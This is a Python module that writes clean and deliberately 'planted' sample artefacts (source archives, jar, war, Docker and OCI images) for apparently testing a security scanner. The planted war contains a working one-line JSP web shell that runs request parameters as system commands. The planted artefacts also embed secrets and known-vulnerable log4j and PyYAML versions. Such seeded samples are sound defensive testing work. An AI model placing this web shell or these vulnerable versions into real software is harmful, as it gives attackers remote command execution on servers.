"""Writing the sample artefacts to files."""

from __future__ import annotations

import gzip
from pathlib import Path
from typing import Final

from domain.samples.artefacts.archives import (
    class_of,
    docker_archive_of,
    jar_of,
    oci_archive_of,
    tar_of,
    zip_of,
)
from domain.samples.artefacts.plants import (
    CLEAN_YAML,
    DATABASE_PASSWORD,
    DSN,
    PLANTED_PROPERTIES,
    PLANTED_YAML,
    PRIVATE_KEY,
)
from domain.samples.artefacts.sources import CLEAN, PLANTED

LANGUAGES: Final = ("java", "c", "python", "go", "javascript")
KINDS: Final = ("jar", "war", "docker_archive", "oci_archive")

_WEB_SHELL = '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>\n'
_PAGE = "<html><body><h1>Notices</h1></body></html>\n"


def write_artefact(what: str, folder: Path, *, planted: bool) -> Path:
    """Write one artefact and return its path.

    ``what`` is a language (a source archive) or a kind (jar, war, docker_archive, oci_archive).
    """
    name, content = _ARTEFACTS[what](planted) if what in _ARTEFACTS else _source(what, planted)
    path = folder / f"{'planted' if planted else 'clean'}-{name}"
    path.write_bytes(content)
    return path


def _source(language: str, planted: bool) -> tuple[str, bytes]:
    """Java and C as zip, the others as compressed tar, so that both ways of packing are tried."""
    files = {name: text.encode() for name, text in (PLANTED if planted else CLEAN)[language].items()}
    if language in ("java", "c"):
        return f"{language}-source.zip", zip_of(files)
    return f"{language}-source.tar.gz", gzip.compress(tar_of(files), mtime=0)


def _library(planted: bool) -> bytes:
    version = "2.14.1" if planted else "2.24.3"
    files = {"org/apache/logging/log4j/core/Version.class": class_of("org/apache/logging/log4j/core/V", {})}
    return jar_of("org.apache.logging.log4j", "log4j-core", version, files)


def _copyleft() -> bytes:
    files = {"cn/example/table/Table.class": class_of("cn/example/table/Table", {})}
    return jar_of("cn.example.table", "table", "1.2.0", files, licence="GPL-3.0-only")


def _classes(planted: bool) -> bytes:
    constants = {"URL": DSN, "PASSWORD": "password=" + DATABASE_PASSWORD} if planted else {"URL": "DB_URL"}
    return class_of("cn/example/notice/Settings", constants)


def _jar(planted: bool) -> tuple[str, bytes]:
    files = {
        "cn/example/notice/Settings.class": _classes(planted),
        "application.yml": (PLANTED_YAML if planted else CLEAN_YAML).encode(),
        "BOOT-INF/lib/log4j-core.jar": _library(planted),
    }
    if planted:
        files["queue.properties"] = PLANTED_PROPERTIES.encode()
        files["server.key"] = PRIVATE_KEY.encode()
        files["BOOT-INF/lib/table.jar"] = _copyleft()
    return "notice.jar", jar_of("cn.example.notice", "notice", "1.0.0", files)


def _war(planted: bool) -> tuple[str, bytes]:
    files = {
        "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\n\r\n",
        "WEB-INF/web.xml": b'<web-app xmlns="http://xmlns.jcp.org/xml/ns/javaee" version="3.1"/>\n',
        "WEB-INF/classes/cn/example/notice/Settings.class": _classes(planted),
        "WEB-INF/classes/application.yml": (PLANTED_YAML if planted else CLEAN_YAML).encode(),
        "WEB-INF/lib/log4j-core.jar": _library(planted),
        "index.html": _PAGE.encode(),
    }
    if planted:
        files["status.jsp"] = _WEB_SHELL.encode()
    return "notice.war", zip_of(files)


def _layers(planted: bool) -> list[bytes]:
    version = "5.3.1" if planted else "6.0.2"
    metadata = f"Metadata-Version: 2.1\nName: PyYAML\nVersion: {version}\nLicense: MIT\n"
    home = f"usr/local/lib/python3.11/site-packages/PyYAML-{version}.dist-info"
    base = {
        "etc/os-release": b'ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\n',
        "app/left-over.txt": b"removed by the layer above\n",
        f"{home}/METADATA": metadata.encode(),
        f"{home}/RECORD": b"",
    }
    sources = (PLANTED if planted else CLEAN)["python"]
    top = {f"app/{name}": text.encode() for name, text in sources.items()}
    return [tar_of(base), tar_of({**top, "app/.wh.left-over.txt": b""})]


def _environment(planted: bool) -> list[str]:
    return ["PATH=/usr/bin:/bin", *([f"DATABASE_URL={DSN}"] if planted else [])]


def _docker(planted: bool) -> tuple[str, bytes]:
    return "notice-docker.tar", docker_archive_of(_layers(planted), _environment(planted), "notice:1.0.0")


def _oci(planted: bool) -> tuple[str, bytes]:
    return "notice-oci.tar", oci_archive_of(_layers(planted), _environment(planted), "notice:1.0.0")


_ARTEFACTS = {"jar": _jar, "war": _war, "docker_archive": _docker, "oci_archive": _oci}
